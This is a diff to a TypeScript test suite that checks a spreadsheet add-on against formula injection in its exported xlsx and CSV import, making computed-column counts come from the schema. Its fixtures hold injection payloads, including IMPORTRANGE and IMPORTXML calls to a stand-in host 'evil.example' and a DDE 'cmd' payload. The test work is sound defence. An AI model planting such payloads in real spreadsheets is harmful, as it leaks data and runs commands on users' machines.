@@ -9,6 +9,7 @@ import { addonEmulator, fillRegister, row, wib } from '../support/harness';
 import { exportXlsxBuffer } from '../../emulator/export/xlsx';
 import { header, toCsv } from '../../scripts/lib/generate-register';
 import { runReport } from '../../scripts/runner';
+import { REGISTER_COLUMNS, COMPUTED_COLUMNS } from '../../src/core/schema';
 
 /** What a cell holds when an officer types text that starts like a formula (Sheets needs the apostrophe). */
 const typed = (s: string) => `'${s}`;
@@ -18,9 +19,10 @@ const TOPICS = ['=1+1', '@Topik', '-Data Terbuka', '+Beasiswa Plus'];
 const UNIT = '=IMPORTRANGE("http://evil.example","A1")';
 const NUMBERS = ['=1+1', '+62-1', '-007', '@r4', '\t=cmd|" /C calc"!A0', '\r=2+2'];
 
-/** Formulas the add-on itself writes: the register's four computed columns and the holiday sheet's effective date. */
+/** Formulas the add-on itself writes: the register's computed columns (after the input columns) and the holiday sheet's effective date. */
 function isOwnFormula(sheet: string, r: number, c: number, formula: string): boolean {
-  if (sheet === 'Register' && r === 1 && c >= 25 && c <= 28) return /^=?ARRAYFORMULA\(/.test(formula);
+  const first = REGISTER_COLUMNS.length + 1;
+  if (sheet === 'Register' && r === 1 && c >= first && c < first + COMPUTED_COLUMNS.length) return /^=?ARRAYFORMULA\(/.test(formula);
   if (sheet === 'Hari Libur' && r === 1 && c === 5) return /^=?ARRAYFORMULA\(/.test(formula);
   return false;
 }
@@ -158,7 +160,7 @@ describe('formula injection through the bundle: recap, Periksa Data, form', () =
   test('the exported xlsx holds no formula but the add-on\'s own, and the typed text as strings', async () => {
     const { stray, own, strings } = await strayXlsxFormulas(await exportXlsxBuffer(em.spreadsheet));
     expect(stray).toEqual([]);
-    expect(own).toBe(5);
+    expect(own).toBe(COMPUTED_COLUMNS.length + 1);
     for (const s of [...CHANNELS, ...TOPICS, '=001', '=IMPORTXML("http://evil.example","//a")']) expect(strings).toContain(s);
   });
 });
@@ -198,7 +200,7 @@ describe('formula injection through the offline runner\'s CSV import', () => {
     expect(String(names[5]).replace(/^\n/, '\r')).toBe(dangerous[5]);
     const { stray, own, strings } = await strayXlsxFormulas(fs.readFileSync(path.join(out, 'spreadsheet.xlsx')));
     expect(stray).toEqual([]);
-    expect(own).toBe(5);
+    expect(own).toBe(COMPUTED_COLUMNS.length + 1);
     expect(strings).toContain(dangerous[0]);
     expect(strings).toContain(dangerous[3]);
   });
